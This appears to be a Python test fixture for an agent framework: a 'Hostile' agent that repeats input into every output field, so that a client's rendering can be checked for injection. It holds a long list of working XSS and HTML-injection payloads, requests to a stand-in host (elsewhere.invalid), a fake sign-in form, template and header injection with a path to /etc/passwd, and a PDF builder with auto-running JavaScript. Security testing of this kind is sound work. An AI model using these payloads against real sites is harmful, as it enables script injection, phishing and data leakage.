"""Hostile texts, and an agent that returns them wherever it can."""

from collections.abc import Sequence

from agentkit import Artifact, Completed, Failed, InputRequired, Outcome, SkillHandler, TaskContext
from agentkit.content.messages import raw_part

AWAY = "http://elsewhere.invalid"  # requests to it are detected
RUN = "alert(document.domain)"
MOST_FIELDS = 30  # of a form
NOTHING = "␀"  # the agent replaces it by a null byte

HANDLERS = ("onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle open", "onbegin", "onanimationstart")
ELEMENTS = ("img src=x", "svg", "input", "details", "video src=x", "audio src=x", "body", "marquee", "iframe")
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#10;script:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"blob:{AWAY}/1",
    "//elsewhere.invalid/seen",
)
MARKDOWN = ("[press]({})", "<{}>", "![seen]({})", "[press][there]\n\n[there]: {}", '[press](<{}> "a title")')

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/run.js></script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>press</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{RUN}'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><use href='{AWAY}/icons.svg#x'></use></svg>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data={AWAY}/it.swf></object>",
    f"<img src={AWAY}/seen.png>",
    f"<picture><source srcset={AWAY}/seen.png><img></picture>",
    f"<link rel=stylesheet href={AWAY}/look.css>",
    f"<style>@import '{AWAY}/look.css';</style>",
    f"<p style='background:url({AWAY}/seen.png)'>styled</p>",
    "<p style='position:fixed;inset:0;background:red'>over all</p>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}><input name=password><button>Sign in</button></form>",
    "<form action=/sign-out method=post><button>Go on</button></form>",
    "<form id=composer><input name=text></form>",
    "<a id=beginning></a><a id=items name=items></a>",
    f"<div hx-get={AWAY} hx-trigger=load></div>",
    f"<div hx-on:load='{RUN}' hx-on::load='{RUN}'></div>",
    f"<div hx-vals='js:{{x: {RUN}}}' hx-get=/ hx-trigger=load></div>",
    "<button data-act=delete data-switch=echo popovertarget=account>press</button>",
    f"<dialog open><h1>You are signed out</h1><a href={AWAY}>Sign in again</a></dialog>",
    f"<input autofocus onfocus={RUN}>",
    f"<x onclick={RUN} tabindex=1 id=x>press</x>",
    f"<a href={AWAY} ping={AWAY}/ping download>press</a>",
    f'<img src=x onerror="&#97;lert(1)">{RUN}',
    f"<img/src/onerror={RUN}>",
    f"<{NOTHING}script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"```html\n<script>{RUN}</script>\n```",
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| [x](javascript:{RUN}) | <b> |",
    f'[a](http://a.example "onmouseover={RUN}")',
    f"[<img src=x onerror={RUN}>](http://a.example)",
    f"$\\text{{</math><img src=x onerror={RUN}>}}$ $$\\href{{javascript:{RUN}}}{{x}}$$",
    f"<details ontoggle={RUN} open>\n<summary><img src=x onerror={RUN}></summary>\n</details></div></main>",
    f'```mermaid\ngraph TD\n A["<img src=x onerror={RUN}>"] --> B\n click A href "javascript:{RUN}"\n```',
    f"```mermaid\n%%{{init: {{'securityLevel': 'loose', 'themeCSS': '@import \"{AWAY}\";'}}}}%%\ngraph TD\n A\n```",
    "{{ 7|add:7 }}{% csrf_token %}{% load static %}",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}#{alert(1)}<%= alert(1) %>",
    "\u202e\u2066evil\u2069.exe \u200b\u200d\ufeff",
    "A" * 5_000,
    "../../../../etc/passwd\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
)

PRESSED = (MARKDOWN[number % len(MARKDOWN)].format(address) for number, address in enumerate(ADDRESSES))
CAUGHT = (f"<{element} {handler}={RUN}>" for element, handler in zip(ELEMENTS, HANDLERS * 2, strict=False))
PAYLOADS = tuple(dict.fromkeys([*MARKUP, *CAUGHT, *PRESSED]))


def pdf() -> bytes:
    """A PDF that tries to run a script, open an address and send a form."""
    wishes = [
        "<< /S /JavaScript /JS (app.alert\\('1'\\); app.launchURL\\('http://a.example/', true\\);) /Next 5 0 R >>",
        "<< /S /URI /URI (http://a.example/looked) /Next 6 0 R >>",
        "<< /S /SubmitForm /F << /FS /URL /F (http://a.example/form) >> /Flags 4 >>",
    ]
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 5 0 R >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> /Annots [7 0 R 8 0 R] >>",
        *wishes,
        "<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << /S /JavaScript /JS (app.alert\\('2'\\)) >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 150 20 160] /A << /S /URI /URI (http://a.example/pressed) >> >>",
    ]
    document, places = "%PDF-1.7\n", []
    for number, written in enumerate(objects, start=1):
        places.append(len(document))
        document += f"{number} 0 obj\n{written}\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    head = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    end = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(document)}\n%%EOF\n"
    return (document + head + end).encode()


class Hostile(SkillHandler):
    """Repeats the message in every field. "fail …" fails with it, "ask 30" asks with the fields from 30, "print"
    makes a PDF.
    """

    name = "Hostile"

    async def on_request(self, task: TaskContext) -> Outcome:
        how, _, said = task.message.text.replace(NOTHING, "\0").partition(" ")
        if how == "ask":
            asked = PAYLOADS[int(said) : int(said) + MOST_FIELDS]
            return InputRequired("\n\n".join(asked), slot="words", schema=form(asked))
        if how == "print":
            return Completed("Look at it.", [Artifact([raw_part(pdf(), "sheet.pdf", "application/pdf")], "sheet.pdf")])
        await task.progress(said, done=1, total=2)
        call = await task.tool_call(said[:100], {said[:100]: said})
        await task.tool_result(call, said[:100], said)
        await task.thought(said)
        await task.token(said)
        return Failed(said) if how == "fail" else Completed(said, files(said))


def form(asked: Sequence[str]) -> dict[str, object]:
    fields: dict[str, object] = {}
    for number, said in enumerate(asked):
        field = {"type": "string", "title": said, "description": said, "default": said}
        fields[f"{number} {said}"[:100]] = {**field, **({"enum": [said, "other"]} if number % 2 else {})}
    return {"type": "object", "title": asked[0], "properties": fields, "required": list(fields)[:1]}


def files(said: str) -> list[Artifact]:
    name = said[:100] or "x"
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{said}<script>{RUN}</script></svg>'
    return [
        Artifact.text(name, said, media_type="text/markdown", description=said[:500]),
        Artifact([raw_part(said.encode(), f"{name}.html", "text/html")], name),
        Artifact([raw_part(drawing.encode(), f"{name}.svg", "image/svg+xml")], name),
        Artifact([raw_part(f'a,b\n"{said}",=1+1\n'.encode(), f"{name}.csv", "text/csv")], name),
        Artifact.json(name, {said: [said, {"__proto__": said}]}),
    ]
